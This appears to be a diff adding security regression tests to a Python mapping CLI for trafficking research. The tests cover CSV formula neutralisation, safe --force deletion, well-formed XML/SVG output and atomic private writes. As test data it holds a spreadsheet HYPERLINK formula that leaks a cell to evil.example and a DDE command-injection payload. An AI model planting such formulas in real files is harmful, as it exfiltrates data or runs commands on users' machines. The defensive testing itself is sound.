@@ -14,6 +14,7 @@ import math
 
 import geopandas as gpd
 import numpy as np
+import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 from pyproj import Geod
@@ -185,3 +186,162 @@ def test_attack_d_validate_rejects_a_public_route_through_a_confidential_place(t
     assert result.exit_code == 1
     assert "corridors.csv, row 3, field 'waypoints': public record uses confidential place 'b-shelter'" in result.output
     assert "inherited from 'o-shelter'" in result.output
+
+
+# --- E: formulas in CSV ---------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full report")'
+
+
+def test_attack_e_list_csv_neutralises_formulas(tmp_path, tiny_tables):
+    import csv
+    import io
+
+    from click.testing import CliRunner
+    from conftest import write_atlas
+    from tipmap.cli import main
+
+    tiny_tables["corridors.csv"][0][1] = HYPERLINK
+    tiny_tables["places.csv"][0][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    atlas = write_atlas(tmp_path / "a", tiny_tables)
+    for layer, column, hostile in (("corridors", "name", HYPERLINK), ("places", "name", "@SUM(1+1)*cmd|' /C calc'!A0")):
+        result = CliRunner().invoke(main, ["list", layer, "--format", "csv", "--atlas", str(atlas)])
+        assert result.exit_code == 0, result.output
+        cells = [row[column] for row in csv.DictReader(io.StringIO(result.stdout))]
+        assert "'" + hostile in cells and hostile not in cells
+        assert not any(c.lstrip()[:1] in "=+@" for c in cells)
+
+
+def test_attack_e_drafts_csv_neutralises_formulas_and_reads_back(tmp_path):
+    """Hostile report text reaches drafts/sources.csv as an inert cell; reading the drafts
+    back as an atlas gives the quote verbatim."""
+    from tipmap.routes.drafts import table_csv
+    from tipmap.routes.textsafety import restore_cell, safe_cell
+
+    text = table_csv("sources.csv", [{"id": "s1", "title": "Report", "quote": HYPERLINK}])
+    assert "'" + HYPERLINK.replace('"', '""') in text
+    assert "\n=" not in text and ",=" not in text
+    assert restore_cell(safe_cell(HYPERLINK)) == HYPERLINK
+    assert safe_cell("-12.5") == "-12.5" and safe_cell(" \t=1+1").startswith("'") and safe_cell("\uff1d1+1").startswith("'")
+
+
+# --- G: --force deletes only tipmap's own files ---------------------------------------
+
+
+def test_attack_g_force_never_deletes_a_file_tipmap_did_not_write(tmp_path):
+    from click.testing import CliRunner
+    from tipmap.cli import main
+
+    report = tmp_path / "r.txt"
+    report.write_text("Women were trafficked from Lao Cai to Hekou.", encoding="utf-8")
+    thesis = tmp_path / "work"
+    thesis.mkdir()
+    (thesis / "thesis.docx").write_bytes(b"three years of work")
+    result = CliRunner().invoke(main, ["extract", str(report), "-o", str(thesis), "--force"])
+    assert result.exit_code == 2  # an output problem is a usage error
+    assert result.stderr.strip().count("\n") == 0 and "holds files tipmap did not write (thesis.docx)" in result.stderr
+    assert (thesis / "thesis.docx").read_bytes() == b"three years of work"
+    drafts = tmp_path / "drafts"
+    assert CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts)]).exit_code == 0
+    (drafts / "notes.txt").write_text("mine", encoding="utf-8")  # the user adds a file to tipmap's directory
+    result = CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts), "--force"])
+    assert result.exit_code == 2 and "(notes.txt)" in result.stderr and (drafts / "notes.txt").exists()
+    (drafts / "notes.txt").unlink()
+    assert CliRunner().invoke(main, ["extract", str(report), "-o", str(drafts), "--force"]).exit_code == 0
+
+
+# --- H: writers safe for their format -------------------------------------------------
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("kml", "a.kml"), ("gpx", "a.gpx")])
+def test_attack_h_control_characters_keep_xml_well_formed(tmp_path, tiny_tables, fmt, name):
+    import xml.etree.ElementTree as ET
+
+    from click.testing import CliRunner
+    from conftest import write_atlas
+    from tipmap.cli import main
+
+    tiny_tables["hotspots.csv"][0][1] = "Border\x1b casino\x00\x0b"
+    tiny_tables["places.csv"][1][1] = "Border\x07 Town"
+    atlas = write_atlas(tmp_path / "a", tiny_tables)
+    out = tmp_path / name
+    result = CliRunner().invoke(main, ["export", "-f", fmt, "-o", str(out), "--atlas", str(atlas)])
+    assert result.exit_code == 0, result.output
+    text = ET.parse(out).getroot()  # raises on a file that is not well-formed
+    assert "Border casino" in ET.tostring(text, encoding="unicode")
+
+
+def test_attack_h_dollars_stay_dollars_and_svg_stays_well_formed(tmp_path):
+    import xml.dom.minidom
+
+    from click.testing import CliRunner
+    from tipmap.cli import main
+
+    out = tmp_path / "m.svg"
+    title = "Fees of $5,000 to $10,000\x1b"
+    result = CliRunner().invoke(main, ["plot", "-o", str(out), "--title", title, "--no-labels"])
+    assert result.exit_code == 0, result.output
+    svg = out.read_text(encoding="utf-8")
+    xml.dom.minidom.parseString(svg)
+    assert "Fees of $5,000 to $10,000" in svg  # drawn as text, not as TeX maths
+
+
+def test_attack_h_temporary_files_are_private(tmp_path):
+    import os
+    import stat
+
+    from tipmap.routes.output import write_atomically
+
+    seen = []
+
+    def write(tmp):
+        seen.append(stat.S_IMODE(os.stat(tmp).st_mode))
+        tmp.write_text("x", encoding="utf-8")
+
+    write_atomically(tmp_path / "out.txt", write)
+    assert seen == [0o600]
+
+
+@pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT"])
+def test_attack_h_a_signal_mid_write_leaves_no_part_file(tmp_path, signame):
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    script = (
+        "import time, sys\n"
+        "from pathlib import Path\n"
+        "from tipmap.routes.output import write_atomically\n"
+        "def write(tmp):\n"
+        "    tmp.write_text('secret half', encoding='utf-8')\n"
+        "    Path(sys.argv[2]).write_text('ready')\n"
+        "    time.sleep(30)\n"
+        "write_atomically(sys.argv[1], write)\n"
+    )
+    target, ready = tmp_path / "out.kml", tmp_path / "ready"
+    proc = subprocess.Popen([sys.executable, "-c", script, str(target), str(ready)], stderr=subprocess.PIPE)
+    deadline = time.monotonic() + 30
+    while not ready.exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert any(p.name.endswith(".part.kml") for p in tmp_path.iterdir())
+    proc.send_signal(getattr(signal, signame))
+    proc.wait(timeout=30)
+    assert proc.returncode != 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["ready"]
+
+
+def test_attack_h_hotspot_parquet_cells_carry_the_manifest(tmp_path):
+    import pyarrow.parquet as pq
+    from click.testing import CliRunner
+    from tipmap.cli import main
+
+    points = tmp_path / "points.csv"
+    points.write_text("lat,lon\n" + "".join(f"13.7{i},100.5{i}\n" for i in range(10)), encoding="utf-8")
+    out = tmp_path / "cells.parquet"
+    result = CliRunner().invoke(main, ["hotspots", str(points), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    meta = pq.read_schema(out).metadata
+    assert b"geo" in meta  # still GeoParquet
+    stamp = json.loads(meta[b"tipmap_manifest"])
+    assert stamp["tool"] == "tipmap" and stamp["version"] and stamp["data_sha256"] and stamp["audience"] == "public"
